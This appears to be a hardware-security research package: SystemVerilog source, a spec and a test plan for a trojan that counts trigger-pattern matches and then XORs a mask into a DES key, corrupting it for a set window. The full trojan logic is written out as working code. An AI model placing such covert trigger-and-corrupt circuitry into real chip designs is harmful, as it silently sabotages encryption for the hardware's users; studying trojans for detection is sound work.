// File: rtl/trojan_pkg.sv
// Shared types and constants for the sequential key-path trojan.
package trojan_pkg;

  // Trigger state: armed and counting, or corrupting the key.
  typedef enum logic {
    IDLE   = 1'b0,
    ACTIVE = 1'b1
  } state_e;

  // Match-count modes.
  localparam int MODE_CUMULATIVE  = 0;
  localparam int MODE_CONSECUTIVE = 1;

  // DES key width (after parity drop).
  localparam int DES_KEY_W = 56;

endpackage

// File: rtl/trojan_seq_trigger_if.sv
// Observed trigger word plus its qualifying valid strobe.
interface trojan_seq_trigger_if #(
  parameter int TRIG_W = 32
);
  logic [TRIG_W-1:0] trigger;
  logic              trigger_valid;

  modport master (output trigger, output trigger_valid);
  modport slave  (input  trigger, input  trigger_valid);
endinterface

// File: rtl/trojan_match_counter.sv
// Match detector and match counter. Produces a one-cycle fire pulse on the
// match that completes the target count; only samples while armed.
module trojan_match_counter
  import trojan_pkg::*;
#(
  parameter int TRIG_W       = 32,
  parameter int MATCH_LSB    = 0,
  parameter int MATCH_W      = 4,
  parameter int MATCH_VAL    = 15,
  parameter int MODE         = MODE_CUMULATIVE,
  parameter int COUNT_TARGET = 8,
  parameter int CNT_W        = 8
) (
  input  logic              clk,
  input  logic              rst_n,
  input  logic [TRIG_W-1:0] trigger,
  input  logic              trigger_valid,
  input  logic              armed,
  input  logic              clear,
  output logic [CNT_W-1:0]  match_count,
  output logic              fire
);

  logic match;
  logic last;
  logic sample;

  // Only the compared field matters; the rest of the word is deliberately ignored.
  logic unused_trigger_bits;
  assign unused_trigger_bits = ^trigger;

  assign match  = (trigger[MATCH_LSB +: MATCH_W] == MATCH_W'(MATCH_VAL));
  assign last   = (match_count == CNT_W'(COUNT_TARGET - 1));
  assign sample = armed & trigger_valid;
  assign fire   = sample & match & last;

  // Count matches; wrap to zero on the completing match so the counter never
  // exceeds COUNT_TARGET-1 and is already re-armed when the window ends.
  always_ff @(posedge clk or negedge rst_n) begin
    // NOTE: sequential state uses non-blocking assignments so every flop
    // samples the pre-edge values regardless of statement order.
    if (!rst_n) begin
      match_count <= '0;
    end else if (clear) begin
      match_count <= '0;
    end else if (sample) begin
      if (match) begin
        match_count <= last ? '0 : match_count + 1'b1;
      end else if (MODE == MODE_CONSECUTIVE) begin
        match_count <= '0;
      end
    end
  end

endmodule

// File: rtl/trojan_seq_trigger.sv
// Sequential key-path trojan: counts trigger matches, then XORs a fixed mask
// into the key for a bounded (or unbounded) window. Key path is combinational.
module trojan_seq_trigger
  import trojan_pkg::*;
#(
  parameter int                 KEY_W          = DES_KEY_W,
  parameter int                 TRIG_W         = 32,
  parameter int                 MATCH_LSB      = 0,
  parameter int                 MATCH_W        = 4,
  parameter int                 MATCH_VAL      = 15,
  parameter int                 MODE           = MODE_CUMULATIVE,
  parameter int                 COUNT_TARGET   = 8,
  parameter int                 CNT_W          = 8,
  parameter logic [KEY_W-1:0]   FLIP_MASK      = KEY_W'(1),
  parameter int                 PAYLOAD_CYCLES = 16,
  parameter int                 DUR_W          = 8
) (
  input  logic                  clk,
  input  logic                  rst_n,
  input  logic [KEY_W-1:0]      key,
  trojan_seq_trigger_if.slave   trig_bus,
  input  logic                  clear,
  output logic [KEY_W-1:0]      payload,
  output logic                  active,
  output logic [CNT_W-1:0]      match_count
);

  state_e           state;
  logic [DUR_W-1:0] dur_cnt;
  logic             fire;

  trojan_match_counter #(
    .TRIG_W      (TRIG_W),
    .MATCH_LSB   (MATCH_LSB),
    .MATCH_W     (MATCH_W),
    .MATCH_VAL   (MATCH_VAL),
    .MODE        (MODE),
    .COUNT_TARGET(COUNT_TARGET),
    .CNT_W       (CNT_W)
  ) u_match_counter (
    .clk          (clk),
    .rst_n        (rst_n),
    .trigger      (trig_bus.trigger),
    .trigger_valid(trig_bus.trigger_valid),
    .armed        (state == IDLE),
    .clear        (clear),
    .match_count  (match_count),
    .fire         (fire)
  );

  // Trigger FSM with registered active flag and payload-window duration counter.
  always_ff @(posedge clk or negedge rst_n) begin
    // NOTE: the asynchronous reset drops active immediately, so the key path
    // is clean during reset without waiting for a clock.
    if (!rst_n) begin
      state   <= IDLE;
      dur_cnt <= '0;
      active  <= 1'b0;
    end else if (clear) begin
      state   <= IDLE;
      dur_cnt <= '0;
      active  <= 1'b0;
    end else begin
      case (state)
        IDLE: begin
          if (fire) begin
            state   <= ACTIVE;
            active  <= 1'b1;
            dur_cnt <= DUR_W'(PAYLOAD_CYCLES);
          end
        end
        ACTIVE: begin
          // A zero-length window means stay corrupted until clear or reset.
          if (PAYLOAD_CYCLES != 0) begin
            if (dur_cnt == DUR_W'(1)) begin
              state   <= IDLE;
              active  <= 1'b0;
              dur_cnt <= '0;
            end else begin
              dur_cnt <= dur_cnt - 1'b1;
            end
          end
        end
        default: begin
          state   <= IDLE;
          active  <= 1'b0;
          dur_cnt <= '0;
        end
      endcase
    end
  end

  // Zero-latency key path: mask gated only by the registered active flag.
  assign payload = key ^ (active ? FLIP_MASK : '0);

endmodule

// File: doc/trojan_seq_trigger.md
Name: trojan_seq_trigger

Overview:
- Parametrised sequential key-path trojan for the DES key-corruption experiments; sits between the key register and the DES key schedule.
- Watches a field of a sampled data word and counts matches against a compile-time pattern (cumulative or consecutive).
- When the count reaches a target, XORs a configurable mask into the key for a bounded or permanent window, then optionally re-arms.
- Key path stays combinational (zero latency); only trigger state is registered.

Parameters:
- KEY_W, 56, key and payload width
- TRIG_W, 32, width of the observed trigger word
- MATCH_LSB, 0, LSB index of the compared field within trigger
- MATCH_W, 4, width of the compared field; MATCH_LSB+MATCH_W <= TRIG_W
- MATCH_VAL, 15, pattern that counts as a match
- MODE, 0, 0 = cumulative count, 1 = consecutive count
- COUNT_TARGET, 8, matches required to fire; legal range 1..2^CNT_W-1
- CNT_W, 8, match-counter width
- FLIP_MASK, 56'h1, bits of key inverted while active
- PAYLOAD_CYCLES, 16, active window length in cycles; 0 = stay active until clear or reset
- DUR_W, 8, duration-counter width; PAYLOAD_CYCLES < 2^DUR_W

Ports:
- clk  in  1  system clock, rising edge
- rst_n  in  1  asynchronous active-low reset
- key  in  KEY_W  clean key
- trigger  in  TRIG_W  observed data word
- trigger_valid  in  1  trigger is sampled only when high
- clear  in  1  synchronous disarm, highest priority after reset
- payload  out  KEY_W  key ^ (FLIP_MASK when active, else 0); combinational
- active  out  1  payload corruption in effect; registered
- match_count  out  CNT_W  current match count; registered

Behaviour:
- Reset: asynchronous on rst_n low.
  - State IDLE; match_count = 0; duration counter = 0; active = 0.
  - payload == key throughout reset.
- match is defined as trigger[MATCH_LSB +: MATCH_W] == MATCH_VAL.
- States: IDLE, ACTIVE.
- IDLE, trigger_valid = 0: all counters hold.
- IDLE, trigger_valid = 1 and match:
  - If match_count == COUNT_TARGET-1: next state ACTIVE, match_count <= 0, duration counter <= PAYLOAD_CYCLES.
  - Otherwise match_count <= match_count + 1.
- IDLE, trigger_valid = 1 and no match: MODE 0 holds the count; MODE 1 sets match_count <= 0.
- Latency: active rises on the first edge after the completing match cycle. payload changes in the same cycle that active rises.
- ACTIVE: trigger and trigger_valid are ignored; match_count stays 0.
- ACTIVE with PAYLOAD_CYCLES > 0:
  - active is high for exactly PAYLOAD_CYCLES cycles.
  - The duration counter decrements each cycle. When it reads 1, the next state is IDLE.
  - The block then re-arms, counting from 0.
- ACTIVE with PAYLOAD_CYCLES = 0: the block stays ACTIVE until clear or reset.
- clear = 1 at an edge, in any state:
  - Next state IDLE; match_count and duration counter are set to 0; active = 0.
  - clear overrides a completing match in the same cycle, so the block does not fire.
- COUNT_TARGET = 1: the block fires on the edge after the first valid match.
- match_count never exceeds COUNT_TARGET-1, so no wrap-around occurs.
- The key input may change at any time; payload tracks it combinationally with the current mask.
- Reset mid-ACTIVE: active drops immediately (asynchronous), and payload == key in the same cycle.

Decomposition:
- Shared package trojan_pkg holds:
  - state enum {IDLE, ACTIVE};
  - MODE encodings MODE_CUMULATIVE = 0, MODE_CONSECUTIVE = 1;
  - DES key width constant 56.
- One natural sub-module, trojan_match_counter: match detect plus counter with MODE handling and a fire pulse.
- The top level holds the state register, the duration counter and the payload XOR.

Test Plan:
- Defaults, MODE 0. Apply 8 valid words with trigger[3:0] = 4'hF, interleaved with non-matches and valid = 0 cycles.
  -> active rises on the edge after the 8th match; payload = key ^ 56'h1 for exactly 16 cycles; then active = 0 and match_count = 0.
- MODE 1. Send 5 matches, 1 valid non-match (4'hE), then 8 matches.
  -> match_count reads 5, then 0; the block fires only after the final 8th consecutive match.
- PAYLOAD_CYCLES = 0, FLIP_MASK = 56'hFF000000000000, key = 56'h0123456789ABCD. Fire the trigger.
  -> payload = 56'hFE23456789ABCD indefinitely; one clear cycle makes payload = key on the next cycle.
- Clear asserted in the same cycle as the 8th match.
  -> active stays 0; match_count = 0.
- Drive rst_n low mid-ACTIVE, asynchronously and between clock edges.
  -> active = 0 and payload = key immediately; after release, 8 new matches are needed to fire again.
- COUNT_TARGET = 1, PAYLOAD_CYCLES = 1. Send a single match.
  -> active is high for exactly 1 cycle starting on the next edge; matches during that cycle are not counted.
